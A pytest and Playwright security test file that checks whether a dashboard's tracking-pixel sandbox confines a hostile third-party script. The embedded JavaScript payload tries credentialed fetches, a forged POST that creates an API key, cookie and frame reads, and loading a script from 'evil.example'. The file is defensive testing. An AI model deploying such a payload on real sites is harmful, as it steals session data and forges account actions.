"""Scripts of tracking pixels in a real browser: on a host with the dashboard they have no origin and no way out."""

import json
import re
import time
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, Route

from tests.conftest import Person
from tests.support.browser import BRANDED, HOST
from tests.support.browser_login import sign_in
from tests.support.databases import ON_SQLITE
from tests.support.overlays import OVERLAY_TYPES, new_overlay
from tests.support.visits import CHROME, new_link
from waypost.core.settings import Settings

pytestmark = ON_SQLITE
_PATHS = (
    "/robots.txt",
    "/healthz",
    "/readyz",
    "/metrics",
    "/api/account",
    "/api/openapi.json",
    "/api/docs",
    "/favicon.ico",
    "/u/ana/avatar.svg",
    "/qr/hostile",
    "/report",
    "/unknown",
    "/hostile+",
    "/dashboard/static/unknown",
    "/dashboard/account/keys",
)
# Parts of a policy by which kinds of overlays differ: the hash of their script, the form and the picture, if any.
_OWN_PARTS = re.compile(r" (?:'sha256-[^']+'|go\.localhost/overlay/\d+|'none'|https://pictures\.example)")
# Each attempt stores its result, or "refused".
_HOSTILE = """(async () => {
  const got = window.got = {};
  const attempt = async (name, work) => {
    try { got[name] = await work() ?? "refused"; } catch (error) { got[name] = "refused"; }
  };
  const later = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds));
  const nonces = [...document.scripts].map((script) => script.nonce).join("");
  await attempt("origin", () => self.origin);
  await attempt("nonce", () => nonces || "refused");
  for (const path of PATHS) {
    await attempt(`fetch ${path}`, async () => (await fetch(path, {credentials: "include"})).text());
  }
  await attempt("post", async () => {
    const body = new URLSearchParams({name: "stolen"});
    return (await fetch("/dashboard/account/keys", {method: "POST", credentials: "include", body})).text();
  });
  for (const path of PATHS) {
    const opened = window.open(path);
    await later(300);
    await attempt(`window ${path}`, () => {
      if (opened.document.URL === "about:blank") { return "refused"; }
      return opened.document.documentElement.outerHTML;
    });
    opened?.close();
    await attempt(`frame ${path}`, async () => {
      const frame = document.createElement("iframe");
      frame.src = path;
      document.body.append(frame);
      await later(100);
      return frame.contentDocument?.URL === "about:blank" ? "refused" : frame.contentDocument?.body.textContent;
    });
  }
  await attempt("blank window", () => {
    const opened = window.open("about:blank");
    const script = opened.document.createElement("script");
    script.textContent = "opener.escaped = self.origin";
    opened.document.body.append(script);
    opened.close();
    return window.escaped;
  });
  for (const store of ["localStorage", "sessionStorage"]) {
    await attempt(store, () => Object.getPrototypeOf(window[store]) === Storage.prototype ? "opened" : "refused");
  }
  await attempt("database", () => new Promise((resolve, reject) => {
    const opening = indexedDB.open("x");
    opening.onsuccess = () => resolve("opened");
    opening.onerror = reject;
  }));
  await attempt("worker", async () => (await navigator.serviceWorker.register("/sw.js")) && "registered");
  await attempt("cookie", () => Object.getOwnPropertyDescriptor(Document.prototype, "cookie").get.call(document));
  for (const source of [null, "https://evil.example/x.js", "data:text/javascript,window.ran=1"]) {
    await attempt(`script ${source}`, async () => {
      const script = document.createElement("script");
      script.nonce = nonces;
      if (source) { script.src = source; } else { script.textContent = "window.ran = 1"; }
      document.head.append(script);
      await later(100);
      return window.ran ? "ran" : "refused";
    });
  }
  await attempt("eval", () => eval("'ran'"));
  got.done = true;
})();""".replace("PATHS", json.dumps(_PATHS))


def _serve_hostile_script(route: Route) -> None:
    route.fulfill(body=_HOSTILE, content_type="text/javascript")


@pytest.fixture
def victim(ana: Person, chrome: Browser, address: str) -> Iterator[BrowserContext]:
    """A browser in which Ana is signed in, and where the scripts of Google Tag Manager are hostile."""
    context = chrome.new_context(user_agent=CHROME)
    context.route("https://www.googletagmanager.com/**", _serve_hostile_script)
    page = context.new_page()
    sign_in(page, address)
    page.close()
    yield context
    context.close()


def _attack(victim: BrowserContext, url: str) -> dict[str, str]:
    """Open a link with a hostile pixel. Return the results of the script's attempts, without the refused ones."""
    page: Page = victim.new_page()
    page.goto(url)
    got: dict[str, Any] = {}
    deadline = time.monotonic() + 60
    while not got.get("done"):
        assert time.monotonic() < deadline, got
        page.wait_for_timeout(200)
        got = page.evaluate("window.got ?? {}")
    page.close()
    assert got.pop("done")
    assert len(got) > 3 * len(_PATHS)
    return {name: str(value)[:300] for name, value in got.items() if value != "refused"}


def test_hostile_pixel_gets_nothing_from_dashboard_host(
    ana: Person, ben: Person, victim: BrowserContext, address: str
) -> None:
    pixel = ben.add("pixel", type="tagmanagerpixel", name="x", tag="GTM-EVIL")
    new_link(ben, "hostile", type=f"overlay-{new_overlay(ben, 'poll')}", pixels=[pixel])
    got = _attack(victim, f"{address}/hostile")
    assert got == {"origin": "null"}
    assert len(ana.database.read(_keys)) == 2


def test_hostile_pixel_on_branded_domain_gets_nothing_from_dashboard(
    ben: Person, victim: BrowserContext, address: str
) -> None:
    ben.add("domain", domain=f"http://{BRANDED}")
    pixel = ben.add("pixel", type="tagmanagerpixel", name="x", tag="GTM-EVIL")
    overlay = new_overlay(ben, "poll")
    new_link(ben, "hostile", domain=BRANDED, type=f"overlay-{overlay}", pixels=[pixel])
    got = _attack(victim, f"{address.replace(HOST, BRANDED)}/hostile")
    assert got["origin"] == address.replace(HOST, BRANDED)
    assert not {name for name in got if name.startswith(("nonce", "script", "eval", "fetch", "post", "frame"))}
    assert not {"window /robots.txt", "window /healthz", "window /readyz", "window /api/account"} & got.keys()
    assert "Not found" in got["window /dashboard/account/keys"]
    assert "Not found" in got["window /api/docs"]


def test_every_interstitial_on_dashboard_host_is_sandboxed(ben: Person, settings: Settings) -> None:
    """The hostile pixel is tried on one kind of overlay, because the others have its policy or a stricter one."""
    tag = ben.add("pixel", type="tagmanagerpixel", name="x", tag="GTM-EVIL")
    policies = set()
    for kind in OVERLAY_TYPES:
        new_link(ben, f"calls-{kind}", type=f"overlay-{new_overlay(ben, kind)}", pixels=[tag])
        policies.add(_OWN_PARTS.sub("", _policy(ben, f"calls-{kind}", HOST)))
    assert len(policies) == 1, policies
    pixel = ben.add("pixel", type="qapixel", name="x", tag="TAG-1")
    splash = ben.add("splash", name="x", title="Wait", counter=5)
    types = {"plain": "direct", "waits": str(splash), "calls": f"overlay-{new_overlay(ben, 'poll')}", "frames": "frame"}
    for alias, kind in types.items():
        new_link(ben, alias, type=kind, pixels=[pixel])
        for host in (HOST, "localhost", "127.0.0.1", "[::1]:8000"):
            policy = _policy(ben, alias, host)
            sandbox = next(part.split() for part in policy.split("; ") if part.startswith("sandbox"))
            assert "allow-scripts" in sandbox
            assert "allow-same-origin" not in sandbox
            assert "nonce" not in policy


def _policy(ben: Person, alias: str, host: str) -> str:
    headers = {"Accept": "text/html", "Host": host, "User-Agent": CHROME}
    policy: str = ben.client.get(f"/{alias}", headers=headers).headers["content-security-policy"]
    return policy


def _keys(tx: Any) -> Any:
    return tx.exec_driver_sql("SELECT name FROM api_keys").all()
